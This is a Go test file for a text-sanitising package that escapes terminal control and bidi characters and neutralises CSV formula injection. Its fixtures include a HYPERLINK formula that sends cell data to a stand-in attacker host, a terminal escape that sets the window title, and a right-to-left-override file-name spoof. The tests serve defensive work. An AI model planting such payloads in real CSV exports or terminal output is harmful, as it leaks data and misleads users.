package textsafe

import (
	"strings"
	"testing"
	"unicode/utf8"
)

func TestTerminalEscapesControlCharacters(t *testing.T) {
	cases := map[string]string{ //nolint:gosec // test fixture, not a credential
		"plain":                                "plain",
		"Zoë Ångström 日本":                      "Zoë Ångström 日本",
		"\x1b]0;pwned\a":                       `\x1b]0;pwned\x07`,
		"\x1b[2J":                              `\x1b[2J`,
		"a\nb\tc\rd":                           `a\nb\tc\rd`,
		"del\x7f":                              `del\x7f`,
		"csi\u009b2J":                          `csi\u009b2J`,
		"bad\xffutf8":                          `bad\xffutf8`,
		"nul\x00":                              `nul\x00`,
		"pdf\u202efdp.exe":                     `pdf\u202efdp.exe`,
		"\u2066iso\u2069":                      `\u2066iso\u2069`,
		"\u202a\u202b\u202c\u202d\u2067\u2068": `\u202a\u202b\u202c\u202d\u2067\u2068`,
		"עברית \u200f":                         "עברית \u200f",
		"":                                     "",
	}
	for in, want := range cases {
		if got := Terminal(in); got != want {
			t.Errorf("Terminal(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestCSVCellNeutralisesFormulas(t *testing.T) {
	cases := map[string]string{
		`=HYPERLINK("http://evil.example/?"&F2,"open")`: `'=HYPERLINK("http://evil.example/?"&F2,"open")`,
		"+1":       "'+1",
		"-2":       "'-2",
		"@SUM(A1)": "'@SUM(A1)",
		"\tx":      "'\tx",
		"\rx":      "'\rx",
		"jdoe":     "jdoe",
		"'quoted":  "'quoted",
		"'=x":      "''=x",
		"''":       "'''",
		"'":        "'",
		"":         "",
		"a=b":      "a=b",
	}
	for in, want := range cases {
		if got := CSVCell(in); got != want {
			t.Errorf("CSVCell(%q) = %q, want %q", in, got, want)
		}
	}
}

func TestCSVCellRoundTrips(t *testing.T) {
	for _, s := range []string{"", "'", "''", "'''", "'=", "=", "=1+2", "'a", "a'", "-", "@", "'-5", "x"} {
		if got := CSVUncell(CSVCell(s)); got != s {
			t.Errorf("CSVUncell(CSVCell(%q)) = %q", s, got)
		}
	}
}

func FuzzCSVCellRoundTrip(f *testing.F) {
	for _, s := range []string{"", "=cmd", "'=x", "''", "plain", "-1"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		c := CSVCell(s)
		if c != "" && formulaStart(c[0]) {
			t.Fatalf("CSVCell(%q) = %q still starts a formula", s, c)
		}
		if got := CSVUncell(c); got != s {
			t.Fatalf("round trip of %q gave %q", s, got)
		}
	})
}

func FuzzTerminalHasNoControlBytes(f *testing.F) {
	for _, s := range []string{"", "\x1b[2J", "\u009b", "ok", "\xff"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		out := Terminal(s)
		if !utf8.ValidString(out) || strings.ContainsFunc(out, unsafeRune) {
			t.Fatalf("Terminal(%q) = %q still holds a control character", s, out)
		}
		if Terminal(out) != out {
			t.Fatalf("Terminal(%q) = %q is not stable", s, out)
		}
	})
}

func TestLinesKeepLineBreaksOnly(t *testing.T) {
	cases := map[string]string{
		"a\nb\tc":          "a\nb\tc",
		"over\rwrite":      `over\rwrite`,
		"\x1b[2J\nnext":    "\\x1b[2J\nnext",
		"csi\u009b2J\n":    "csi\\u009b2J\n",
		"bad\xffutf8\tend": "bad\\xffutf8\tend",
	}
	for in, want := range cases {
		if got := Lines(in); got != want {
			t.Errorf("Lines(%q) = %q, want %q", in, got, want)
		}
	}
}
